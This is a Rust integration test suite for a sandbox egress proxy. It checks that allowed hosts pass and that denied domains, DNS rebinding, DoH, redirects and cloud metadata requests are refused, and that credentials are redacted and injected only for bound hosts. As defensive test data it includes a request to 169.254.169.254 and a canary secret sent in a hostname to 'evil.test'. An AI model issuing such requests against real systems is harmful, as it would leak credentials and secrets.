//! The egress proxy against curl (a client nobody here wrote), a scripted DNS server and HTTP
//! servers on loopback addresses: what it lets through, what it refuses and what it records.

use std::net::{IpAddr, SocketAddr};

use toolgate_contract::egress::EgressRules;
use toolgate_contract::redact::Redactor;
use toolgate_egress::{Decision, Injection, Interception, Proxy, Resolver, Served, upstream_tls};
use toolgate_testkit::dns::DnsServer;

/// The address the suite treats as the allowed "public" host (its CIDR is allowed).
const ALLOWED: &str = "127.0.0.2";
/// A credential of the call: never in a record, even when the tool puts it in a name or path.
const CANARY: &str = "tgcanary7f3a9d";

/// An address no rule allows.
const INTERNAL: &str = "127.0.0.9";

async fn upstream(ip: &str) -> SocketAddr {
    toolgate_testkit::upstream::start(ip)
        .await
        .expect("an upstream on loopback")
}

fn ip(s: &str) -> IpAddr {
    s.parse().expect("an address")
}

async fn proxy(domains: &[String], dns: &DnsServer) -> (Served, SocketAddr) {
    let rules = EgressRules::new(false, domains, &[format!("{ALLOWED}/32")], true).expect("rules");
    let resolver = Resolver::new(&[dns.addr()]).expect("a resolver");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("a port");
    let addr = listener.local_addr().expect("its address");
    (
        Proxy::new(rules, resolver, Redactor::new([CANARY])).serve_tcp(listener),
        addr,
    )
}

/// curl through the proxy: its exit code and what it printed (stdout and stderr).
async fn curl(proxy: SocketAddr, args: &[&str]) -> (i32, String) {
    let out = tokio::process::Command::new("curl")
        .args([
            "-sS",
            "--max-time",
            "20",
            "--proxy",
            &format!("http://{proxy}"),
        ])
        .args(args)
        .env_clear()
        .output()
        .await
        .expect("curl runs");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowed_names_pass_and_every_other_destination_is_refused_and_recorded() {
    let up = upstream(ALLOWED).await;
    let internal = upstream(INTERNAL).await;
    let port = up.port();
    let dns = DnsServer::start(vec![
        ("allowed.test", vec![ip(ALLOWED)]),
        ("denied.test", vec![ip(ALLOWED)]),
        // Public, then inside: DNS rebinding.
        ("rebind.test", vec![ip(ALLOWED), ip(INTERNAL)]),
        ("metadata.test", vec![ip("169.254.169.254")]),
    ])
    .await
    .unwrap();
    let domains: Vec<String> = ["allowed.test", "rebind.test", "metadata.test"]
        .iter()
        .map(|d| format!("{d}:{port}"))
        .collect();
    let (served, proxy) = proxy(&domains, &dns).await;

    // An allowed name, plain HTTP: forwarded in origin form, closing after the one request.
    let (code, out) = curl(
        proxy,
        &[&format!("http://allowed.test:{port}/hello?token=abc")],
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("hello from upstream; request line GET /hello?token=abc HTTP/1.1"),
        "{out}"
    );
    assert!(out.contains("connection header Connection: close"), "{out}");

    // The same through a tunnel (CONNECT), as every HTTPS request goes.
    let (code, out) = curl(
        proxy,
        &[
            "--proxytunnel",
            &format!("http://allowed.test:{port}/hello"),
        ],
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("hello from upstream"), "{out}");

    // A name not allowed: the reason is what curl prints.
    let (code, out) = curl(proxy, &[&format!("http://denied.test:{port}/hello")]).await;
    assert_eq!(code, 0, "curl got the proxy's answer: {out}");
    assert!(out.contains("toolgate egress proxy: denied.test:"), "{out}");
    assert!(
        out.contains("is not among the sandbox's allowed domains"),
        "{out}"
    );
    // Through a tunnel curl fails and names the status.
    let (code, out) = curl(
        proxy,
        &["--proxytunnel", &format!("http://denied.test:{port}/")],
    )
    .await;
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("403"), "{out}");

    // An IP literal no CIDR allows, even on a port an allowed name uses.
    let (_, out) = curl(proxy, &[&format!("http://{internal}/hello")]).await;
    assert!(out.contains("is an address, not a name"), "{out}");
    assert!(!out.contains("hello from upstream"), "{out}");

    // DNS rebinding: the first connection reaches the public address, the second is refused.
    let (_, first) = curl(proxy, &[&format!("http://rebind.test:{port}/hello")]).await;
    assert!(first.contains("hello from upstream"), "{first}");
    let (_, second) = curl(proxy, &[&format!("http://rebind.test:{port}/hello")]).await;
    assert!(
        second.contains(&format!("rebind.test resolved to {INTERNAL}")),
        "{second}"
    );

    // The metadata address, by name and by literal.
    let (_, out) = curl(
        proxy,
        &[&format!("http://metadata.test:{port}/latest/meta-data/")],
    )
    .await;
    assert!(out.contains("resolved to 169.254.169.254"), "{out}");
    let (_, out) = curl(proxy, &["http://169.254.169.254/latest/meta-data/"]).await;
    assert!(
        out.contains("169.254.169.254 is an address, not a name"),
        "{out}"
    );

    // A redirect to a host the policy does not allow: the tool follows it, the proxy refuses.
    let (_, out) = curl(
        proxy,
        &[
            "-L",
            &format!("http://allowed.test:{port}/redirect?to=http://denied.test:{port}/hello"),
        ],
    )
    .await;
    assert!(out.contains("toolgate egress proxy: denied.test:"), "{out}");

    // DNS over HTTPS, through a tunnel as a DoH client would.
    let (code, out) = curl(proxy, &["https://dns.google/dns-query?name=example.com"]).await;
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("403"), "{out}");

    // A credential carried out in a name and in a path: refused, and recorded without it.
    let (_, out) = curl(proxy, &[&format!("http://{CANARY}.evil.test/")]).await;
    assert!(
        out.contains("403") || out.contains("toolgate egress proxy"),
        "{out}"
    );
    let (_, _) = curl(
        proxy,
        &[&format!("http://denied.test:{port}/{CANARY}?k={CANARY}")],
    )
    .await;

    let (records, dropped) = served.records();
    assert_eq!(dropped, 0);
    let kinds: Vec<(String, Decision, Option<String>)> = records
        .iter()
        .map(|r| (r.host.clone(), r.decision, r.kind.clone()))
        .collect();
    let expect = |host: &str, decision: Decision, kind: Option<&str>| {
        assert!(
            kinds
                .iter()
                .any(|(h, d, k)| h == host && *d == decision && k.as_deref() == kind),
            "no {host} {decision:?} {kind:?} in {kinds:?}"
        );
    };
    expect("allowed.test", Decision::Allowed, None);
    expect("denied.test", Decision::Refused, Some("domain-not-allowed"));
    expect(INTERNAL, Decision::Refused, Some("address-not-allowed"));
    expect("rebind.test", Decision::Allowed, None);
    expect("rebind.test", Decision::Refused, Some("private-address"));
    expect("metadata.test", Decision::Refused, Some("private-address"));
    expect(
        "169.254.169.254",
        Decision::Refused,
        Some("address-not-allowed"),
    );
    expect("dns.google", Decision::Refused, Some("encrypted-dns"));
    // A record holds the path without its query, the address reached, and the bytes.
    let first = &records[0];
    assert_eq!(first.path.as_deref(), Some("/hello"));
    assert_eq!(first.address, Some(ip(ALLOWED)));
    assert!(
        first.bytes_received > 0 && first.bytes_sent > 0,
        "{first:?}"
    );
    let json = serde_json_text(&records);
    assert!(
        !json.contains("token=abc"),
        "a query never reaches a record: {json}"
    );
    assert!(
        !json.contains(CANARY),
        "a credential never reaches a record: {json}"
    );
    assert!(json.contains("evil.test"), "{json}");
    // Names were resolved by the proxy, once per connection that passed the name check.
    assert_eq!(
        dns.asked().iter().filter(|n| *n == "rebind.test").count(),
        2
    );
    assert!(
        !dns.asked().iter().any(|n| n == "denied.test"),
        "a refused name is never resolved"
    );
}

fn serde_json_text(records: &[toolgate_egress::Record]) -> String {
    records
        .iter()
        .map(|r| format!("{r:?}"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// A credential by placeholder: curl sends the placeholder, the API gets the value, and the
/// placeholder sent anywhere else (or with a method the binding does not allow) is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_becomes_the_credential_only_for_its_hosts() {
    const VALUE: &str = "tgcanary-real-token-41c9";
    let api = toolgate_testkit::upstream::start_tls(ALLOWED, "api.test", VALUE)
        .await
        .expect("https upstream");
    let other = upstream(ALLOWED).await;
    let dns = DnsServer::start(vec![
        ("api.test", vec![ip(ALLOWED)]),
        ("allowed.test", vec![ip(ALLOWED)]),
    ])
    .await
    .expect("dns");
    let dir = tempfile::tempdir().expect("tempdir");
    let upstream_ca = dir.path().join("upstream-ca.pem");
    std::fs::write(&upstream_ca, &api.ca_pem).expect("ca");
    let domains = vec![
        format!("api.test:{}", api.addr.port()),
        format!("allowed.test:{}", other.port()),
    ];
    let rules = EgressRules::new(false, &domains, &[format!("{ALLOWED}/32")], true).expect("rules");
    let delivery: toolgate_crds::ProxyDelivery = serde_json::from_value(serde_json::json!({
        "hosts": [format!("api.test:{}", api.addr.port())],
        "methods": ["GET"],
    }))
    .expect("delivery");
    let placeholder = Injection::placeholder();
    let interception =
        Interception::new(upstream_tls(&[upstream_ca]).expect("upstream tls")).expect("ca");
    let bundle = dir.path().join("bundle.pem");
    std::fs::write(&bundle, interception.ca_pem()).expect("the call's CA");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("port");
    let proxy = listener.local_addr().expect("addr");
    let served = Proxy::new(
        rules,
        Resolver::new(&[dns.addr()]).expect("resolver"),
        Redactor::new([VALUE]),
    )
    .with_injection(
        Injection::new(placeholder.clone(), VALUE.into(), &delivery),
        interception,
    )
    .serve_tcp(listener);
    let bearer = format!("Authorization: Bearer {placeholder}");
    let cacert = bundle.display().to_string();
    let url = format!("https://api.test:{}/user", api.addr.port());

    // The API gets the value: the tool only ever had the placeholder.
    let (code, out) = curl(proxy, &["--cacert", &cacert, "-H", &bearer, &url]).await;
    assert_eq!(code, 0, "{out}");
    assert_eq!(out, "token ok\n");
    // Without the call's CA the tool cannot talk to the interception at all.
    let (code, _) = curl(proxy, &["-H", &bearer, &url]).await;
    assert_ne!(code, 0);
    // A method the binding does not allow: refused inside the tunnel.
    let (_, out) = curl(
        proxy,
        &["--cacert", &cacert, "-X", "DELETE", "-H", &bearer, &url],
    )
    .await;
    assert!(
        out.contains("credential binding allows other methods"),
        "{out}"
    );
    // The placeholder to another allowed host: refused as an exfiltration attempt.
    let (_, out) = curl(
        proxy,
        &[
            "-H",
            &bearer,
            &format!("http://allowed.test:{}/hello", other.port()),
        ],
    )
    .await;
    assert!(out.contains("exfiltration attempt"), "{out}");
    assert!(!out.contains("hello from upstream"), "{out}");
    // The other host without the placeholder is still reachable.
    let (_, out) = curl(
        proxy,
        &[&format!("http://allowed.test:{}/hello", other.port())],
    )
    .await;
    assert!(out.contains("hello from upstream"), "{out}");

    let (records, _) = served.records();
    let kinds: Vec<_> = records
        .iter()
        .map(|r| (r.host.as_str(), r.decision, r.kind.as_deref(), r.injected))
        .collect();
    assert!(
        kinds.contains(&("api.test", Decision::Allowed, None, true)),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&(
            "api.test",
            Decision::Refused,
            Some("credential-not-allowed-here"),
            false
        )),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&(
            "allowed.test",
            Decision::Refused,
            Some("credential-exfiltration"),
            false
        )),
        "{kinds:?}"
    );
    let text = serde_json_text(&records);
    assert!(!text.contains(VALUE), "{text}");
}
